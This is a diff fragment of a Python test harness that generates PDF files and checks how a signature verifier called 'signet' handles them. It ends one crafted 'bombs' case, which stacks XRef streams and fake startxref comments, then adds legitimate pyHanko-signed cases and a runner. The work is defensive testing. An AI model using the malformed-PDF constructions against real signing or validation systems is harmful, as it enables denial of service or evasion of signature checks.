+        objs[n + i] = (b"<< /Type /XRef /Size 5 /W [1 4 2] /Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 7 >> "
+                       b"/Length %d >>\nstream\n" % len(comp) + comp + b"\nendstream")
+    objs[INFO] = with_entries(data, INFO, Title=b"(bombs)")
+    upd = append_update(data, objs)
+    offsets = [m.start() + 1 for m in re.finditer(rb"\n(\d+) 0 obj\n<< /Type /XRef /Size 5", upd)]
+    at = upd.rindex(b"xref\n")
+    comments = b"".join(b"%% startxref %d\n" % o for o in offsets)
+    fixed = upd[:at] + comments + upd[at:]
+    return fixed[:fixed.rindex(b"startxref")] + b"startxref\n%d\n%%%%EOF\n" % (at + len(comments))
+
+
+# ---------------------------------------------------------------------------------------------
+# Legitimate files that must be accepted.
+# ---------------------------------------------------------------------------------------------
+
+@case("accept", "pyHanko: signed, then the text field filled through IncrementalPdfFileWriter (+ appearance)")
+def legit_pyhanko_form_fill(out):
+    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
+    from pyhanko.pdf_utils import generic as g
+    data = signed(certify=True, perm=MDPPerm.FILL_FORMS)
+    w = IncrementalPdfFileWriter(BytesIO(data))
+    ref = w.root["/AcroForm"]["/Fields"].raw_get(0)
+    field = ref.get_object()
+    field["/V"] = g.TextStringObject("Alice Example")
+    ap = g.StreamObject({g.NameObject("/Type"): g.NameObject("/XObject"), g.NameObject("/Subtype"): g.NameObject("/Form"),
+                         g.NameObject("/BBox"): g.ArrayObject([g.NumberObject(0), g.NumberObject(0), g.NumberObject(228), g.NumberObject(20)])},
+                        stream_data=b"/Tx BMC BT /Helv 10 Tf 2 6 Td (Alice Example) Tj ET EMC")
+    field["/AP"] = g.DictionaryObject({g.NameObject("/N"): w.add_object(ap)})
+    w.mark_update(ref)
+    buf = BytesIO()
+    w.write(buf)
+    return buf.getvalue()
+
+
+@case("accept", "pyHanko: signed, then add_validation_info (DSS, VRI)")
+def legit_pyhanko_add_validation_info(out):
+    from pyhanko.sign.validation import add_validation_info
+    from pyhanko.pdf_utils.reader import PdfFileReader
+    from pyhanko_certvalidator import ValidationContext
+    data = signed()
+    r = PdfFileReader(BytesIO(data))
+    vc = ValidationContext(trust_roots=[PKI.asn1_cert(PKI.root)], allow_fetching=False,
+                           revocation_mode="soft-fail", moment=mc.SIGNING_TIME)
+    buf = BytesIO(data)
+    add_validation_info(r.embedded_signatures[0], vc, in_place=True, output=buf)
+    return buf.getvalue()
+
+
+@case("accept", "pyHanko: signed, second signature in a new visible field via signers.sign_pdf")
+def legit_pyhanko_second_visible(out):
+    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
+    from pyhanko.sign import signers, fields
+    data = signed()
+    w = IncrementalPdfFileWriter(BytesIO(data))
+    meta = signers.PdfSignatureMetadata(field_name="Second")
+    return signers.sign_pdf(w, meta, signer=PKI.signer(PKI.signer2),
+                            new_field_spec=fields.SigFieldSpec("Second", box=(300, 60, 560, 100))).getvalue()
+
+
+@case("accept", "pyHanko: certified P=2, second signature + doc timestamp + DSS")
+def legit_pyhanko_p2_chain(out):
+    data = signed(certify=True, perm=MDPPerm.FILL_FORMS)
+    data = mc.sign(data, PKI, field="Signature2", who=PKI.signer2)
+    data = mc.doc_timestamp(data, PKI)
+    return data
+
+
+# ---------------------------------------------------------------------------------------------
+
+def run(outdir, signet):
+    global PKI
+    os.makedirs(outdir, exist_ok=True)
+    PKI = mc.PKI()
+    with open(os.path.join(outdir, "root.pem"), "wb") as f:
+        from cryptography.hazmat.primitives import serialization
+        f.write(PKI.root.public_bytes(serialization.Encoding.PEM))
+    only = set(sys.argv[3:]) if len(sys.argv) > 3 else None
+    rows = []
+    for name, expect, note, fn in CASES:
+        if only and name not in only:
+            continue
+        path = os.path.join(outdir, name + ".pdf")
+        try:
+            data = fn(outdir)
+        except Exception as e:  # a generator that pyHanko refuses is reported, not fatal
+            rows.append((name, expect, "GEN-ERR", "", f"{type(e).__name__}: {e}"[:150], ""))
+            continue
+        with open(path, "wb") as f:
+            f.write(data)
+        t0 = time.time()
+        try:
+            p = subprocess.run([signet, "verify", "--ca", os.path.join(outdir, "root.pem"), "--json", path],
+                               capture_output=True, timeout=60)
+            code, out_text, err = p.returncode, p.stdout.decode(errors="replace"), p.stderr.decode(errors="replace")
+        except subprocess.TimeoutExpired:
+            code, out_text, err = "TIMEOUT", "", ""
+        dt = time.time() - t0
+        level, changes = "", ""
+        try:
+            j = json.loads(out_text)
+            level = ",".join(s["modification_level"] or "-" for s in j["signatures"])
+            changes = " | ".join(c["what"] for s in j["signatures"][:1] for c in s["changes"])[:160]
+        except Exception:
+            changes = err.strip()[:160]
+        ok = code != "TIMEOUT" and (code in (0, 2, 3) if expect == "any" else (code == 0) == (expect == "accept") and code in (0, 3))
+        flag = "" if ok else "MISMATCH"
+        if dt > 10:
+            flag += " SLOW"
+        rows.append((name, expect, str(code), level, changes, f"{dt:.1f}s {flag}"))
+    w = max(len(r[0]) for r in rows)
+    for r in rows:
+        print(f"{r[0]:<{w}}  {r[1]:<6}  exit={r[2]:<7}  {r[3]:<28}  {r[5]:<14}  {r[4]}")
+
+
+if __name__ == "__main__":
+    if len(sys.argv) < 2:
+        sys.exit("usage: review_attacks.py OUTDIR [SIGNET] [CASE ...]")
+    here = os.path.dirname(os.path.abspath(__file__))
+    default = os.path.join(here, "..", "..", ".build", "debug", "signet")
+    run(sys.argv[1], sys.argv[2] if len(sys.argv) > 2 else default)
